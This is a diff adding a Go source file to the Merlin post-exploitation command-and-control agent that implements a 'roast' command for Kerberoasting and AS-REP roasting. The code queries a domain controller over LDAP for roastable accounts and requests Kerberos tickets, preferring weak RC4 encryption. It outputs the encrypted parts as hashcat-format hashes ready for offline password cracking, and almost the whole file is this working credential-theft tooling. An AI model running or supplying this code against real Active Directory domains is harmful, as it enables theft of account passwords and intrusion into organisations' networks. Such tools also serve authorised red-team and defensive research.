@@ -0,0 +1,348 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"errors"
+	"fmt"
+	"os"
+	"strings"
+	"time"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+// roastTimeout is how long each request to the domain controller can take
+const roastTimeout = 10 * time.Second
+
+// userAccountControl flags used to find accounts that can be roasted
+const (
+	uacAccountDisable     = 0x2
+	uacDontRequirePreauth = 0x400000
+)
+
+// samNormalUserAccount is the sAMAccountType of user accounts
+const samNormalUserAccount = "805306368"
+
+// roastable is an account and, for Kerberoasting, the SPN to request a service ticket for
+type roastable struct {
+	user string
+	spn  string
+}
+
+// Roast requests Kerberos service tickets for accounts with a service principal name (Kerberoasting) and AS-REPs for
+// accounts that do not require pre-authentication (AS-REP roasting) and returns the parts encrypted with the account's
+// password-derived key in hashcat format. RC4 is requested first because it cracks fastest, AES is used when the
+// account or KDC does not allow RC4. When a user and password are provided, roastable accounts are found with an LDAP
+// search of the domain controller, otherwise SPNs or users are comma separated or a file on the host with one per line
+// prefixed with @. The ccache option uses the TGT in the credential cache selected with the kerberos module
+// roast kerberoast <dc> <domain> <user> <password> [spns|@file]
+// roast kerberoast <dc> <domain> ccache <spns|@file>
+// roast asrep <dc> <domain> <users|@file>
+// roast asrep <dc> <domain> <user> <password>
+// roast find <dc> <domain> <user> <password>
+func Roast(cmd jobs.Command) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Roast() with %+v", cmd))
+	}
+	if len(cmd.Args) < 4 {
+		results.Stderr = fmt.Sprintf("expected 4 or more arguments for the roast command, received %d", len(cmd.Args))
+		return
+	}
+	dc, domain, args := cmd.Args[1], cmd.Args[2], cmd.Args[3:]
+
+	var records []RoastRecord
+	var err error
+	switch strings.ToLower(cmd.Args[0]) {
+	case "kerberoast":
+		records, err = kerberoast(dc, domain, args)
+	case "asrep":
+		records, err = asrepRoast(dc, domain, args)
+	case "find":
+		if len(args) < 2 {
+			results.Stderr = "the roast find command requires a user and password"
+			return
+		}
+		results.Stdout, err = findRoastable(dc, domain, args[0], args[1])
+		if err != nil {
+			results.Stderr = err.Error()
+		}
+		return
+	default:
+		results.Stderr = fmt.Sprintf("unknown roast command: %s", cmd.Args[0])
+		return
+	}
+	if err != nil {
+		results.Stderr = err.Error()
+		return
+	}
+
+	var hashes, failures []string
+	for _, r := range records {
+		if r.Hash != "" {
+			hashes = append(hashes, r.Hash)
+			continue
+		}
+		name := r.User
+		if r.SPN != "" {
+			name = r.SPN
+		}
+		failures = append(failures, fmt.Sprintf("%s: %s", name, r.Error))
+	}
+	if len(hashes) > 0 {
+		results.Stdout = strings.Join(hashes, "\n") + "\n"
+	} else {
+		results.Stdout = fmt.Sprintf("none of the %d accounts could be roasted\n", len(records))
+	}
+	if len(failures) > 0 {
+		results.Stderr = strings.Join(failures, "\n")
+	}
+	structured = newStructured("roast", records)
+	return
+}
+
+// kerberoast requests a service ticket for each SPN with a TGT from the user's password or the credential cache
+func kerberoast(dc, domain string, args []string) (records []RoastRecord, err error) {
+	var cred *krbCredential
+	var targets []roastable
+	if strings.EqualFold(args[0], "ccache") {
+		if len(args) < 2 {
+			return nil, fmt.Errorf("roasting with the credential cache requires a list of SPNs")
+		}
+		name := os.Getenv("KRB5CCNAME")
+		if name == "" {
+			name = defaultCCache()
+		}
+		cache, err := readCCache(name)
+		if err != nil {
+			return nil, err
+		}
+		if cache.tgt == nil {
+			return nil, fmt.Errorf("the credential cache %s does not have an unexpired TGT", name)
+		}
+		cred = cache.tgt
+		args = args[1:]
+	} else {
+		if len(args) < 2 {
+			return nil, fmt.Errorf("the roast kerberoast command requires a user and password, or ccache")
+		}
+		var asrep *kdcRep
+		if cred, asrep, err = asExchange(dc, domain, args[0], args[1], roastTimeout); err != nil {
+			return nil, fmt.Errorf("there was an error getting a TGT for %s: %s", args[0], err)
+		}
+		if asrep != nil {
+			return nil, fmt.Errorf("%s does not require pre-authentication, AS-REP roast it instead", args[0])
+		}
+		if len(args) < 3 {
+			if targets, err = findSPNs(dc, domain, args[0], args[1]); err != nil {
+				return
+			}
+		}
+		args = args[2:]
+	}
+	if len(args) > 0 {
+		spns, err := sprayList(args[0])
+		if err != nil {
+			return nil, err
+		}
+		// The account that holds the SPN is not known, hashcat only uses it as the salt for AES tickets
+		for _, spn := range spns {
+			targets = append(targets, roastable{user: "USER", spn: spn})
+		}
+	}
+	if len(targets) == 0 {
+		return nil, fmt.Errorf("there are no accounts with a service principal name to roast")
+	}
+
+	for _, target := range targets {
+		record := RoastRecord{Type: "kerberoast", User: target.user, Realm: cred.realm, SPN: target.spn}
+		ticket, err := tgsExchange(dc, cred, target.spn, []int32{etypeRC4}, roastTimeout)
+		var kerr *kerberosError
+		if errors.As(err, &kerr) && kerr.Code == kdcErrETypeNoSupp {
+			ticket, err = tgsExchange(dc, cred, target.spn, []int32{etypeAES256, etypeAES128}, roastTimeout)
+		}
+		if err != nil {
+			record.Error = err.Error()
+		} else {
+			record.EncType = int(ticket.EncPart.EType)
+			if record.Hash, err = tgsHash(target.user, cred.realm, target.spn, ticket.EncPart); err != nil {
+				record.Error = err.Error()
+			}
+		}
+		records = append(records, record)
+	}
+	return
+}
+
+// asrepRoast requests an AS-REP without pre-authentication for each user
+func asrepRoast(dc, domain string, args []string) (records []RoastRecord, err error) {
+	var users []string
+	if len(args) > 1 {
+		targets, err := findNoPreauth(dc, domain, args[0], args[1])
+		if err != nil {
+			return nil, err
+		}
+		for _, target := range targets {
+			users = append(users, target.user)
+		}
+		if len(users) == 0 {
+			return nil, fmt.Errorf("there are no accounts that do not require pre-authentication")
+		}
+	} else if users, err = sprayList(args[0]); err != nil {
+		return
+	}
+
+	realm := strings.ToUpper(domain)
+	for _, user := range users {
+		record := RoastRecord{Type: "asrep", User: user, Realm: realm}
+		rep, err := asrepRequest(dc, realm, user, []int32{etypeRC4})
+		var kerr *kerberosError
+		if errors.As(err, &kerr) && kerr.Code == kdcErrETypeNoSupp {
+			rep, err = asrepRequest(dc, realm, user, supportedETypes)
+		}
+		switch {
+		case errors.As(err, &kerr) && kerr.Code == kdcErrPreauthRequired:
+			record.Error = "pre-authentication is required"
+		case err != nil:
+			record.Error = err.Error()
+		default:
+			record.EncType = int(rep.EncPart.EType)
+			if record.Hash, err = asrepHash(user, realm, rep.EncPart); err != nil {
+				record.Error = err.Error()
+			}
+		}
+		records = append(records, record)
+	}
+	return
+}
+
+// asrepRequest sends an AS-REQ without pre-authentication and returns the AS-REP
+func asrepRequest(dc, realm, user string, etypes []int32) (rep kdcRep, err error) {
+	req, err := asReq(realm, user, etypes, nil)
+	if err != nil {
+		return
+	}
+	reply, err := kdcExchange(dc, req, roastTimeout)
+	if err != nil {
+		return
+	}
+	rep, _, err = parseKDCRep(reply)
+	return
+}
+
+// tgsHash formats a service ticket's encrypted part for hashcat modes 13100, 19600, and 19700
+func tgsHash(user, realm, spn string, enc encryptedData) (string, error) {
+	if len(enc.Cipher) < 28 {
+		return "", fmt.Errorf("the ticket's encrypted part is only %d bytes", len(enc.Cipher))
+	}
+	spn = strings.ReplaceAll(spn, ":", "~")
+	if enc.EType == etypeRC4 {
+		return fmt.Sprintf("$krb5tgs$%d$*%s$%s$%s*$%x$%x", enc.EType, user, realm, spn, enc.Cipher[:16], enc.Cipher[16:]), nil
+	}
+	split := len(enc.Cipher) - 12
+	return fmt.Sprintf("$krb5tgs$%d$%s$%s$*%s*$%x$%x", enc.EType, user, realm, spn, enc.Cipher[split:], enc.Cipher[:split]), nil
+}
+
+// asrepHash formats an AS-REP's encrypted part for hashcat modes 18200, 32100, and 32200
+func asrepHash(user, realm string, enc encryptedData) (string, error) {
+	if len(enc.Cipher) < 28 {
+		return "", fmt.Errorf("the AS-REP's encrypted part is only %d bytes", len(enc.Cipher))
+	}
+	if enc.EType == etypeRC4 {
+		return fmt.Sprintf("$krb5asrep$%d$%s@%s:%x$%x", enc.EType, user, realm, enc.Cipher[:16], enc.Cipher[16:]), nil
+	}
+	split := len(enc.Cipher) - 12
+	return fmt.Sprintf("$krb5asrep$%d$%s$%s$%x$%x", enc.EType, user, realm, enc.Cipher[split:], enc.Cipher[:split]), nil
+}
+
+// findSPNs searches the domain for enabled user accounts with a service principal name, other than krbtgt
+func findSPNs(dc, domain, user, password string) ([]roastable, error) {
+	filter := ldapAnd(
+		ldapEquals("sAMAccountType", samNormalUserAccount),
+		ldapPresent("servicePrincipalName"),
+		ldapNot(ldapBitAnd("userAccountControl", uacAccountDisable)),
+	)
+	entries, err := roastSearch(dc, domain, user, password, filter)
+	if err != nil {
+		return nil, err
+	}
+	var targets []roastable
+	for _, entry := range entries {
+		name := entry.get("sAMAccountName")
+		if strings.EqualFold(name, "krbtgt") {
+			continue
+		}
+		targets = append(targets, roastable{user: name, spn: entry.get("servicePrincipalName")})
+	}
+	return targets, nil
+}
+
+// findNoPreauth searches the domain for enabled user accounts that do not require Kerberos pre-authentication
+func findNoPreauth(dc, domain, user, password string) ([]roastable, error) {
+	filter := ldapAnd(
+		ldapEquals("sAMAccountType", samNormalUserAccount),
+		ldapBitAnd("userAccountControl", uacDontRequirePreauth),
+		ldapNot(ldapBitAnd("userAccountControl", uacAccountDisable)),
+	)
+	entries, err := roastSearch(dc, domain, user, password, filter)
+	if err != nil {
+		return nil, err
+	}
+	var targets []roastable
+	for _, entry := range entries {
+		targets = append(targets, roastable{user: entry.get("sAMAccountName")})
+	}
+	return targets, nil
+}
+
+// roastSearch binds to the domain controller as the user and searches the domain with the filter
+func roastSearch(dc, domain, user, password string, filter []byte) ([]ldapEntry, error) {
+	conn, err := ldapLogin(dc, domain, user, password, roastTimeout)
+	if err != nil {
+		return nil, err
+	}
+	defer conn.Close()
+	return conn.search(domainDN(domain), filter, []string{"sAMAccountName", "servicePrincipalName"})
+}
+
+// findRoastable lists the accounts that can be Kerberoasted or AS-REP roasted
+func findRoastable(dc, domain, user, password string) (string, error) {
+	spns, err := findSPNs(dc, domain, user, password)
+	if err != nil {
+		return "", err
+	}
+	preauth, err := findNoPreauth(dc, domain, user, password)
+	if err != nil {
+		return "", err
+	}
+	var b strings.Builder
+	b.WriteString(fmt.Sprintf("%d accounts with a service principal name:\n", len(spns)))
+	for _, t := range spns {
+		b.WriteString(fmt.Sprintf("  %s  %s\n", t.user, t.spn))
+	}
+	b.WriteString(fmt.Sprintf("%d accounts that do not require pre-authentication:\n", len(preauth)))
+	for _, t := range preauth {
+		b.WriteString(fmt.Sprintf("  %s\n", t.user))
+	}
+	return b.String(), nil
+}